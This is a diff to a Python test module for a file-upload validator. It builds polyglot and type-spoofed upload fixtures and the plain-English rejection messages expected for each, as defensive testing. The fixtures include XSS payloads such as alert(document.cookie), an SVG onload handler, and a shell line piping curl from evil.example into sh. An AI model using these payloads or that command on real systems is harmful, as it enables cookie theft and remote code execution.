@@ -15,6 +15,8 @@ import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 
+from tests.sample_files import DOCX_MAIN, jpeg, office, office_members, pdf, png, png_chunk
+
 # --- Messages the user must see (GOV.UK style: what is wrong, and what to do) -----------------------
 
 EMPTY = "The selected file is empty. Choose a file that has something in it."
@@ -30,6 +32,10 @@ MACROS = (
     "Save it as a Word (.docx) or Excel (.xlsx) file without macros and upload the new copy."
 )
 NO_FILE = "Choose a file to upload"
+NOT_CSV = (
+    "The file’s name ends in .csv but its contents could not be read as CSV. "
+    "Save it again as CSV, or rename it to end in .txt."
+)
 
 
 def mismatch(description: str, extension: str) -> str:
@@ -49,17 +55,48 @@ def no_extension(expected: str) -> str:
     return f"The file’s name has no extension. Add {expected} to the end of its name and upload it again."
 
 
+# A file whose structure does not parse as its type, or that has something added after its end.
+CUT_SHORT = "the end of the file is missing, so it may have been cut short"
+ADDED_AFTER_END = "something has been added after the end of the file"
+BAD_PDF_INDEX = "its cross-reference table, which says where each part is, is missing or damaged"
+BAD_CHECKSUM = "part of it is damaged (a checksum does not match)"
+BAD_LAYOUT = "its parts are missing, damaged or in the wrong order"
+BAD_CONTENT_TYPES = "its list of contents ([Content_Types].xml) is missing or damaged"
+_DAMAGED = {
+    "pdf": "“{name}” cannot be read as a PDF: {problem}. Save or export it as a PDF again and upload the new copy.",
+    "png": "“{name}” cannot be read as a PNG image: {problem}. Save or export the image again and upload the new copy.",
+    "jpeg": "“{name}” cannot be read as a JPEG image: {problem}. "
+    "Save or export the image again and upload the new copy.",
+    "docx": "“{name}” cannot be read as a Word document (DOCX): {problem}. "
+    "Open it in Word, save it again and upload the new copy.",
+    "xlsx": "“{name}” cannot be read as an Excel spreadsheet (XLSX): {problem}. "
+    "Open it in Excel, save it again and upload the new copy.",
+}
+
+
+def damaged(name: str, kind: str, problem: str) -> str:
+    return _DAMAGED[kind].format(name=name, problem=problem)
+
+
+def markup_inside(name: str, description: str) -> str:
+    return (
+        f"“{name}” is {description} with web page code or a script hidden inside it, which cannot be uploaded. "
+        "Save or export it again and upload the new copy."
+    )
+
+
+def markup_on_line(name: str, line: int) -> str:
+    return (
+        f"“{name}” contains web page code or a script on line {line:,}, which cannot be uploaded. "
+        "Remove it and upload the file again, or save the document as a PDF and upload that instead."
+    )
+
+
 # --- Building blocks -----------------------------------------------------------------------------
 
 MB = 1024 * 1024
-PDF = (
-    b"%PDF-1.4\n"
-    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
-    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
-    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>endobj\n"
-    b"trailer<</Root 1 0 R>>\n%%EOF\n"
-)
-JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
+PDF = pdf()
+JPEG = jpeg()
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
 ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(44)
@@ -69,41 +106,9 @@ SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
 GIF_JS = b"GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00*/=1;alert(document.domain);//;"
 
 
-def png() -> bytes:
-    def chunk(tag: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))
-
-    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
-    return (
-        b"\x89PNG\r\n\x1a\n"
-        + chunk(b"IHDR", header)
-        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
-        + (chunk(b"IEND", b""))
-    )
-
-
 def jpeg_with_script_comment() -> bytes:
     comment = b"<script>alert(1)</script>"
-    return JPEG[:20] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + JPEG[20:]
-
-
-def _office_members(kind: str) -> dict[str, bytes]:
-    members = {"[Content_Types].xml": b'<?xml version="1.0"?><Types/>', "_rels/.rels": b"<Relationships/>"}
-    if kind == "docx":
-        members["word/document.xml"] = b"<w:document><w:body><w:p/></w:body></w:document>"
-    elif kind == "xlsx":
-        members["xl/workbook.xml"] = b"<workbook><sheets/></workbook>"
-        members["xl/worksheets/sheet1.xml"] = b"<worksheet><sheetData/></worksheet>"
-    return members
-
-
-def office(kind: str, extra: dict[str, bytes] | None = None) -> bytes:
-    """A minimal DOCX or XLSX (or a plain zip for "zip"), with `extra` members added."""
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        for path, data in {**_office_members(kind), **(extra or {})}.items():
-            archive.writestr(path, data)
-    return buffer.getvalue()
+    return JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + JPEG[2:]
 
 
 def _zeros_member(archive: zipfile.ZipFile, path: str, megabytes: int) -> None:
@@ -136,7 +141,7 @@ def docx_lying_sizes() -> bytes:
 def docx_many_members() -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
-        for path, data in _office_members("docx").items():
+        for path, data in office_members("docx").items():
             archive.writestr(path, data)
         for number in range(10_001):
             archive.writestr(f"word/media/{number}.bin", b"")
@@ -160,9 +165,140 @@ def just_over_limit(limit: int = 20 * MB) -> bytes:
     return PDF + b"%" + b"x" * (limit - len(PDF))
 
 
+FILLER_LINE = b"Toolbox talk notes, attendance recorded.\n"  # 41 bytes
+
+
 def text_with_script_after(offset: int) -> bytes:
-    filler = b"Toolbox talk notes, attendance recorded.\n" * (offset // 41 + 1)
-    return filler + b"<script>alert(1)</script>\n"
+    """Plain text with a script on the line after the first `offset` bytes: line offset // 41 + 2."""
+    return FILLER_LINE * (offset // 41 + 1) + b"<script>alert(1)</script>\n"
+
+
+def text_with_html_after(offset: int) -> bytes:
+    return FILLER_LINE * (offset // 41 + 1) + b"<html><body><h1>Notes</h1><p>Signed off.</p></body></html>\n"
+
+
+def csv_broken_after_64kb() -> bytes:
+    rows = b"site,principle,score\n" + b"Leeds,Safety,4\n" * 5000  # 75 KB of good rows
+    return rows + b'Hull,"Wellbeing,3\n'  # a quotation mark that is never closed
+
+
+def csv_over_64kb() -> bytes:
+    return b"site,note\r\n" + b'Leeds,"two lines,\r\nquoted"\r\n' * 3000
+
+
+# Real files, as the tools people use write them (each built once).
+
+
+@functools.cache
+def weasyprint_pdf(variant: str | None = None) -> bytes:
+    import weasyprint
+
+    html = "<h1>Cobot risk assessment</h1>" + "<p>Hazards reviewed with the safety representative.</p>" * 40
+    return weasyprint.HTML(string=html).write_pdf(pdf_variant=variant)
+
+
+@functools.cache
+def pypdf_incremental_update() -> bytes:
+    """A WeasyPrint PDF with an incremental update appended, as signing or filling in a form does."""
+    import pypdf
+
+    writer = pypdf.PdfWriter(io.BytesIO(weasyprint_pdf()), incremental=True)
+    writer.add_metadata({"/Subject": "Signed off"})
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _pillow_image():
+    from PIL import Image
+
+    image = Image.new("RGB", (64, 48), (30, 90, 160))
+    image.paste((250, 250, 250), (8, 8, 40, 30))
+    return image
+
+
+@functools.cache
+def pillow_file(format: str, **options: object) -> bytes:
+    buffer = io.BytesIO()
+    _pillow_image().save(buffer, format, **options)
+    return buffer.getvalue()
+
+
+def pillow_png_with_text() -> bytes:
+    from PIL import PngImagePlugin
+
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Software", "Site camera 2.1")
+    info.add_text("Comment", "Bay 3, after the guard was fitted", zip=True)
+    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF/></x:xmpmeta>", zip=True)
+    return pillow_file("PNG", pnginfo=info)
+
+
+def pillow_jpeg_with_exif() -> bytes:
+    from PIL import Image
+
+    exif = Image.Exif()
+    exif[0x010F] = "Canon"  # Make
+    return pillow_file("JPEG", exif=exif.tobytes(), progressive=True, optimize=True)
+
+
+def jpeg_with_gain_map() -> bytes:
+    """A phone photo: the main image, then its HDR gain map as a second complete JPEG (MPF)."""
+    return pillow_file("JPEG") + pillow_file("JPEG", quality=50)
+
+
+def jpeg_motion_photo() -> bytes:
+    """A motion photo: the still image, then a short MP4 (ISO boxes running to the end of the file)."""
+    video = struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + struct.pack(">I4s", 16, b"mdat") + bytes(8)
+    return pillow_file("JPEG") + video
+
+
+def png_with_chunk(tag: bytes, data: bytes) -> bytes:
+    """A PNG with one more chunk just before IEND (the last 12 bytes)."""
+    image = png()
+    return image[:-12] + png_chunk(tag, data) + image[-12:]
+
+
+def png_bad_checksum() -> bytes:
+    data = bytearray(png())
+    data[29] ^= 0xFF  # the IHDR chunk's CRC: 8 signature + 4 length + 4 type + 13 data bytes in
+    return bytes(data)
+
+
+def docx_with_gap() -> bytes:
+    """A document with bytes hidden between two of its parts, where no zip tool puts anything."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for index, (path, data) in enumerate(office_members("docx").items()):
+            archive.writestr(path, data)
+            if index == 0:
+                hidden = b"hidden between the parts"
+                buffer.write(hidden)
+                archive.start_dir += len(hidden)
+    return buffer.getvalue()
+
+
+class _OneWay(io.RawIOBase):
+    """A stream that cannot seek, so zipfile writes each part's sizes after its data (a data descriptor)."""
+
+    def __init__(self) -> None:
+        self.data = bytearray()
+
+    def writable(self) -> bool:
+        return True
+
+    def write(self, data) -> int:
+        self.data += data
+        return len(data)
+
+
+def docx_streamed() -> bytes:
+    """A document written as a stream, as web apps and some exporters do: every part has a data descriptor."""
+    stream = _OneWay()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        for path, data in office_members("docx").items():
+            archive.writestr(path, data)
+    return bytes(stream.data)
 
 
 # --- Uploads ---------------------------------------------------------------------------------
@@ -196,31 +332,187 @@ def _pdf() -> bytes:
 
 
 UPLOADS: list[HostileUpload] = [
-    # Polyglots: a valid PDF, PNG or JPEG with something else inside or appended is stored as what its
-    # content starts as, and served as that type with nosniff, so no browser runs the rest.
-    HostileUpload("pdf+html", "policy.pdf", lambda: PDF + HTML, "application/pdf", None, PDF_TYPE, "policy.pdf"),
-    HostileUpload("pdf+zip", "policy.pdf", lambda: PDF + office("docx"), PDF_TYPE, None, PDF_TYPE, "policy.pdf"),
-    HostileUpload("png+html", "photo.png", lambda: png() + HTML, "image/png", None, "image/png", "photo.png"),
-    HostileUpload("png+zip", "photo.png", lambda: png() + office("zip"), "image/png", None, "image/png", "photo.png"),
+    # Polyglots: a PDF, PNG, JPEG, Word file or text carrying a web page or another file, appended after
+    # its end, hidden inside it, or with only its first bytes real. Each file must be what it claims to its
+    # last byte, so all are refused.
     HostileUpload(
-        "jpeg-comment-script", "photo.jpg", jpeg_with_script_comment, "image/jpeg", None, "image/jpeg", "photo.jpg"
+        "pdf+html", "policy.pdf", lambda: PDF + HTML, PDF_TYPE, damaged("policy.pdf", "pdf", ADDED_AFTER_END)
     ),
     HostileUpload(
-        "pdf-header-on-html", "page.pdf", lambda: b"%PDF-1.4\n" + HTML, "text/html", None, PDF_TYPE, "page.pdf"
+        "pdf+zip", "policy.pdf", lambda: PDF + office("docx"), PDF_TYPE, damaged("policy.pdf", "pdf", ADDED_AFTER_END)
+    ),
+    HostileUpload(
+        "pdf-html-in-comment",
+        "policy.pdf",
+        lambda: pdf(HTML.decode().strip()),
+        PDF_TYPE,
+        markup_inside("policy.pdf", "a PDF"),
+    ),
+    HostileUpload(
+        "pdf-header-on-html",
+        "page.pdf",
+        lambda: b"%PDF-1.4\n" + HTML,
+        "text/html",
+        damaged("page.pdf", "pdf", CUT_SHORT),
+    ),
+    HostileUpload(
+        "png+html", "photo.png", lambda: png() + HTML, "image/png", damaged("photo.png", "png", ADDED_AFTER_END)
+    ),
+    HostileUpload(
+        "png+zip",
+        "photo.png",
+        lambda: png() + office("zip"),
+        "image/png",
+        damaged("photo.png", "png", ADDED_AFTER_END),
+    ),
+    HostileUpload(
+        "png-html-in-text-chunk",
+        "photo.png",
+        lambda: png_with_chunk(b"tEXt", b"Comment\x00" + HTML),
+        "image/png",
+        markup_inside("photo.png", "a PNG image"),
+    ),
+    HostileUpload(
+        "png-html-in-compressed-text-chunk",
+        "photo.png",
+        lambda: png_with_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(HTML)),
+        "image/png",
+        markup_inside("photo.png", "a PNG image"),
+    ),
+    HostileUpload(
+        "png-html-in-private-chunk",
+        "photo.png",
+        lambda: png_with_chunk(b"htMl", HTML),
+        "image/png",
+        markup_inside("photo.png", "a PNG image"),
+    ),
+    HostileUpload(
+        "jpeg-comment-script",
+        "photo.jpg",
+        jpeg_with_script_comment,
+        "image/jpeg",
+        markup_inside("photo.jpg", "a JPEG image"),
+    ),
+    HostileUpload(
+        "jpeg+html", "photo.jpg", lambda: JPEG + HTML, "image/jpeg", damaged("photo.jpg", "jpeg", ADDED_AFTER_END)
+    ),
+    HostileUpload(
+        "docx+junk",
+        "minutes.docx",
+        lambda: office("docx") + b"This is not part of the document.\n",
+        DOCX_TYPE,
+        damaged("minutes.docx", "docx", ADDED_AFTER_END),
+    ),
+    HostileUpload(
+        "xlsx+html",
+        "log.xlsx",
+        lambda: office("xlsx") + HTML,
+        "application/octet-stream",
+        damaged("log.xlsx", "xlsx", ADDED_AFTER_END),
+    ),
+    HostileUpload(
+        "docx-bytes-between-parts",
+        "minutes.docx",
+        docx_with_gap,
+        DOCX_TYPE,
+        damaged("minutes.docx", "docx", BAD_LAYOUT),
     ),
     HostileUpload(
         "text+script-deep",
         "notes.txt",
         lambda: text_with_script_after(8192),
         "text/plain",
-        None,
-        "text/plain",
-        "notes.txt",
+        markup_on_line("notes.txt", 201),
     ),
+    HostileUpload(
+        "text+html-after-5000-bytes",
+        "notes.txt",
+        lambda: text_with_html_after(5000),
+        "text/plain",
+        markup_on_line("notes.txt", 123),
+    ),
+    HostileUpload(
+        "csv+script-after-1mb",
+        "scores.csv",
+        lambda: b"site,score\n" + b"Leeds,4\n" * 150_000 + b"Hull,<script>alert(1)</script>\n",
+        "text/csv",
+        markup_on_line("scores.csv", 150_002),
+    ),
+    HostileUpload("csv-broken-after-64kb", "scores.csv", csv_broken_after_64kb, "text/csv", NOT_CSV),
+    # Damaged or cut short: the structure of the type must parse.
+    HostileUpload(
+        "pdf-cut-short",
+        "policy.pdf",
+        lambda: weasyprint_pdf()[: len(weasyprint_pdf()) // 2],
+        PDF_TYPE,
+        damaged("policy.pdf", "pdf", CUT_SHORT),
+    ),
+    HostileUpload(
+        "pdf-no-cross-reference-table",
+        "policy.pdf",
+        lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
+        PDF_TYPE,
+        damaged("policy.pdf", "pdf", BAD_PDF_INDEX),
+    ),
+    HostileUpload(
+        "png-bad-checksum", "photo.png", png_bad_checksum, "image/png", damaged("photo.png", "png", BAD_CHECKSUM)
+    ),
+    HostileUpload(
+        "png-cut-short", "photo.png", lambda: png()[:-20], "image/png", damaged("photo.png", "png", CUT_SHORT)
+    ),
+    HostileUpload(
+        "jpeg-cut-short",
+        "photo.jpg",
+        lambda: pillow_file("JPEG")[:-40],
+        "image/jpeg",
+        damaged("photo.jpg", "jpeg", CUT_SHORT),
+    ),
+    HostileUpload(
+        "docx-without-content-types",
+        "minutes.docx",
+        lambda: office("docx", {"[Content_Types].xml": b'<?xml version="1.0"?><Types/>'}),
+        DOCX_TYPE,
+        damaged("minutes.docx", "docx", BAD_CONTENT_TYPES),
+    ),
+    HostileUpload(
+        "docm-renamed-docx",
+        "minutes.docx",
+        lambda: office(
+            "docx",
+            {
+                "[Content_Types].xml": office_members("docx")["[Content_Types].xml"].replace(
+                    DOCX_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
+                )
+            },
+        ),
+        DOCX_TYPE,
+        MACROS,
+    ),
+    # Real files as the tools people use write them are accepted.
+    HostileUpload("pdf-weasyprint", "report.pdf", weasyprint_pdf, PDF_TYPE, None, PDF_TYPE, "report.pdf"),
+    HostileUpload(
+        "pdf-weasyprint-pdfa", "report.pdf", lambda: weasyprint_pdf("pdf/a-3b"), PDF_TYPE, None, PDF_TYPE, "report.pdf"
+    ),
+    HostileUpload(
+        "pdf-incremental-update", "signed.pdf", pypdf_incremental_update, PDF_TYPE, None, PDF_TYPE, "signed.pdf"
+    ),
+    HostileUpload("pdf-pillow", "scan.pdf", lambda: pillow_file("PDF"), PDF_TYPE, None, PDF_TYPE, "scan.pdf"),
+    HostileUpload("png-pillow-with-text", "photo.png", pillow_png_with_text, "image/png", None, "image/png"),
+    HostileUpload("jpeg-pillow-exif", "photo.jpg", pillow_jpeg_with_exif, "image/jpeg", None, "image/jpeg"),
+    HostileUpload("jpeg-with-gain-map", "photo.jpg", jpeg_with_gain_map, "image/jpeg", None, "image/jpeg"),
+    HostileUpload("jpeg-motion-photo", "photo.jpg", jpeg_motion_photo, "image/jpeg", None, "image/jpeg"),
+    HostileUpload("docx-streamed", "minutes.docx", docx_streamed, DOCX_TYPE, None, DOCX_TYPE, "minutes.docx"),
+    HostileUpload("csv-over-64kb", "scores.csv", csv_over_64kb, "text/csv", None, "text/csv", "scores.csv"),
     HostileUpload("gif-js", "chart.png", lambda: GIF_JS, "image/png", NOT_ALLOWED),
     HostileUpload("gif-js-as-gif", "chart.gif", lambda: GIF_JS, "image/gif", NOT_ALLOWED),
     HostileUpload("html+docx", "minutes.docx", lambda: HTML + office("docx"), DOCX_TYPE, MARKUP),
-    HostileUpload("text+script-early", "notes.txt", lambda: text_with_script_after(100), "text/plain", MARKUP),
+    HostileUpload(
+        "text+script-early",
+        "notes.txt",
+        lambda: text_with_script_after(100),
+        "text/plain",
+        markup_on_line("notes.txt", 4),
+    ),
     # Type spoofing: the content decides, never the name or the Content-Type header.
     HostileUpload("html-as-pdf", "policy.pdf", lambda: HTML, PDF_TYPE, MARKUP),
     HostileUpload("html-as-docx", "minutes.docx", lambda: HTML, DOCX_TYPE, MARKUP),
